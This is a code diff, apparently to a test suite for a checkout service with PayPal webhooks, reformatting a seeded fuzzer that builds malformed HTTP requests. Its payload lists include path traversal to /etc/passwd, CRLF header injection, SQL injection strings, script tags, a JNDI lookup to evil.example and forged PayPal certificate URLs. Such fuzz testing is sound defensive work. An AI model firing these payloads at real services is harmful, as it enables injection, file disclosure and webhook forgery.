@@ -17,18 +17,22 @@ internal sealed record HostileRequest(string? Operation, byte[] Bytes, bool IsHt
 /// <summary>Makes requests that began as right ones. The same seed makes the same requests.</summary>
 internal sealed class HostileRequests(int seed, IReadOnlyList<Operation> operations, HostilePlace place)
 {
-    private static readonly string[] Methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "BREW", "get", "M-SEARCH"];
+    private static readonly string[] Methods =
+        ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "BREW", "get", "M-SEARCH"];
 
     private static readonly string[] Segments =
     [
-        "5O190127TN364715T", "0", "-1", "null", "{id}", "..", ".", "%2e%2e", "..%2f..%2fetc%2fpasswd", "%2F", "%5C", "a%2Fb", "%20", "%09",
-        "%0d%0aX-Evil:%20yes", "%FF", "%C0%AF", "%ED%A0%80", "%F0%9F%92%A9", "%E2%80%AE", "%25%30%30", "%u0000", "'%20or%201=1--", "%3Cscript%3E",
+        "5O190127TN364715T", "0", "-1", "null", "{id}", "..", ".", "%2e%2e", "..%2f..%2fetc%2fpasswd", "%2F", "%5C", "a%2Fb",
+        "%20", "%09",
+        "%0d%0aX-Evil:%20yes", "%FF", "%C0%AF", "%ED%A0%80", "%F0%9F%92%A9", "%E2%80%AE", "%25%30%30", "%u0000", "'%20or%201=1--",
+        "%3Cscript%3E",
         "a;b=c", "*", "~", "a:b", "@", "%EF%BB%BF", "00000000-0000-0000-0000-000000000000", "con", "x%00y", "%00",
     ];
 
     private static readonly string[] Queries =
     [
-        "", "?", "?&&&", "?=", "?status=COMPLETED", "?status=%00", "?status=%FF", "?status=%ED%A0%80", "?status=completed", "?status=COMPLETED&status=CREATED",
+        "", "?", "?&&&", "?=", "?status=COMPLETED", "?status=%00", "?status=%FF", "?status=%ED%A0%80", "?status=completed",
+        "?status=COMPLETED&status=CREATED",
         "?after=%00", "?after=x", "?after=0", "?after=AAAA", "?after=%FF%FE", "?after=2026-01-01T00:00:00Z_1", "?limit=0", "?limit=-1",
         "?limit=1", "?limit=501", "?limit=1e3", "?limit=99999999999999999999", "?limit=%EF%BC%91", "?limit=1&limit=2", "?limit=",
         "?state=dead", "?state=%00", "?state=pending", "?status[]=x", "?token='%20or%201=1", "?paypal=return%0d%0aX:%20y",
@@ -37,19 +41,25 @@ internal sealed class HostileRequests(int seed, IReadOnlyList<Operation> operati
     private static readonly string[] ContentTypes =
     [
         "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
-        "application/json; charset=\"", "application/problem+json", "application/xml", "*/*", "json", ";", "", "application/json, text/plain",
+        "application/json; charset=\"", "application/problem+json", "application/xml", "*/*", "json", ";", "",
+        "application/json, text/plain",
         "APPLICATION/JSON", "application/json;", "application/vnd.api+json; charset=nonsense",
     ];
 
     private static readonly string[] Headers =
     [
-        "Idempotency-Key: a", "Idempotency-Key: ", "Idempotency-Key: with space", "Idempotency-Key: \u00C3\u00A4", "Idempotency-Key: \u00FF",
-        "Idempotency-Key: ,,,", "Accept: text/html", "Accept: ;;q=x", "Accept: nonsense", "Accept-Encoding: zstd, *;q=0", "Accept-Language: \u00E2\u0080\u00AE",
+        "Idempotency-Key: a", "Idempotency-Key: ", "Idempotency-Key: with space", "Idempotency-Key: \u00C3\u00A4",
+        "Idempotency-Key: \u00FF",
+        "Idempotency-Key: ,,,", "Accept: text/html", "Accept: ;;q=x", "Accept: nonsense", "Accept-Encoding: zstd, *;q=0",
+        "Accept-Language: \u00E2\u0080\u00AE",
         "Origin: https://evil.example", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: nonsense", "X-Forwarded-For: 1.2.3.4, garbage",
-        "X-Forwarded-Proto: https", "X-Forwarded-Host: evil.example", "Forwarded: for=\"[::1]:x\"", "Range: bytes=0-0,5-", "If-None-Match: *",
-        "If-Modified-Since: never", "Expect: 100-continue", "Expect: nonsense", "Traceparent: 00-zz-zz-zz", "Tracestate: \u00FF", "Baggage: ===",
+        "X-Forwarded-Proto: https", "X-Forwarded-Host: evil.example", "Forwarded: for=\"[::1]:x\"", "Range: bytes=0-0,5-",
+        "If-None-Match: *",
+        "If-Modified-Since: never", "Expect: 100-continue", "Expect: nonsense", "Traceparent: 00-zz-zz-zz", "Tracestate: \u00FF",
+        "Baggage: ===",
         "Upgrade: websocket", "Content-Encoding: gzip", "Content-Language: x", "X-HTTP-Method-Override: DELETE", "Authorization: Bearer",
-        "Authorization: Basic YTpi", "Authorization: Bearer \u00C3\u00A4", "Cookie: checkout_visitor=", "Cookie: =;=;;", "Cookie: checkout_visitor=\u00C3\u00A4",
+        "Authorization: Basic YTpi", "Authorization: Bearer \u00C3\u00A4", "Cookie: checkout_visitor=", "Cookie: =;=;;",
+        "Cookie: checkout_visitor=\u00C3\u00A4",
         "Cookie: $Version=1; checkout_visitor=\"\\\"", "Referer: javascript:alert(1)", "User-Agent: ${jndi:ldap://evil.example}", "DNT:",
         "paypal-transmission-id: a|b", "paypal-transmission-time: now", "paypal-cert-url: https://evil.example/v1/notifications/certs/C",
         "paypal-cert-url: file:///etc/passwd", "paypal-auth-algo: none", "paypal-transmission-sig: !!!!",
@@ -72,15 +82,16 @@ internal sealed class HostileRequests(int seed, IReadOnlyList<Operation> operati
             : random.Next(10) == 0 ? new HostileJson(random).Of("""{"a":[1]}""")
             : [];
 
-        var head = new List<string> { $"{method} {target} HTTP/1.1", "Host: " + (random.Next(20) == 0 ? "evil.example:1" : "shop"), "Connection: close" };
+        var host = random.Next(20) == 0 ? "evil.example:1" : "shop";
+        var head = new List<string> { $"{method} {target} HTTP/1.1", $"Host: {host}", "Connection: close" };
         head.AddRange(Usual(operation));
         for (var i = random.Next(8) - 4; i > 0; i--)
         {
             head.Add(Headers[random.Next(Headers.Length)]);
         }
 
-        var isHttp = !target.Contains("%00", StringComparison.Ordinal) && !head.Exists(line => line.Contains('\u00FF')) && target.Length < 3000
-            && method != "TRACE";
+        var isHttp = !target.Contains("%00", StringComparison.Ordinal) && !head.Exists(line => line.Contains('\u00FF'))
+            && target.Length < 3000 && method != "TRACE";
         return new HostileRequest(operation.Name, Framed(head, body), isHttp, method == "HEAD", random.Next(25) == 0);
     }
 
